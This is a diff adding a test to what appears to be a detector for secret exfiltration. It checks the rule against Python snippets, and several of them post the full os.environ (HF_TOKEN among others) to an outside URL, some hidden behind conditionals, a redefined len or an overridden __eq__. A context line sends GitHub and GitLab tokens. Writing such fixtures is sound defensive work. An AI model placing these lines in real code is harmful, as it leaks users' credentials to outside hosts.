@@ -377,3 +377,26 @@ test('good: a module of somebody else is asked whether there are keys; bad: keys
     `const texts = require("some-texts"); ${both('texts.isEmpty')}; send(process.env.GITHUB_TOKEN, process.env.GITLAB_TOKEN)`,
   ]) assert.equal(of(code), 'high', code);
 });
+
+test('what Python only compares, counts or asks for goes nowhere', () => {
+  const send = 'import os, requests\ndef f(q):\n';
+  const worstOf = (code: string) => findingsOf(rule, { 'a.py': `${send}    ${code}` })[0]?.severity ?? 'nothing';
+  for (const code of [
+    'known = "HF_TOKEN" in os.environ\n    requests.get("https://x.org/a", params={"anonymous": not known})',
+    'h = {"A": "b"} if "HF_TOKEN" in os.environ else {}\n    requests.get("https://x.org/a", headers=h)',
+    'requests.get("https://x.org/a", params={"n": len(os.environ), "any": bool(os.environ)})',
+    'requests.get("https://x.org/a", params={"a": os.environ == q, "b": os.environ is None, "c": "K" not in os.environ})',
+    'requests.get("https://x.org/a", params={"a": os.environ and q})',
+    'h = 1 if os.environ else 2\n    requests.post("https://x.org/a", json=h)',
+  ]) assert.equal(worstOf(code), 'nothing', code);
+  for (const code of [
+    'requests.post("https://x.org/a", json=dict(os.environ) if "HF_TOKEN" in os.environ else {})',
+    'requests.post("https://x.org/a", json=("HF_TOKEN" in os.environ) and dict(os.environ))',
+    'requests.post("https://x.org/a", json=(not q) or dict(os.environ))',
+    'requests.post("https://x.org/a", json={} if q else dict(os.environ))',
+    'requests.post("https://x.org/a", json=[k + v for k, v in os.environ.items() if k in q])',
+    'len = dict\n    requests.post("https://x.org/a", json=len(os.environ))',
+    'def len(x): return x\n    requests.post("https://x.org/a", json=len(os.environ))',
+    'class A:\n        def __eq__(self, other): return other\n    requests.post("https://x.org/a", json=A() == dict(os.environ))',
+  ]) assert.equal(worstOf(code), 'critical', code);
+});
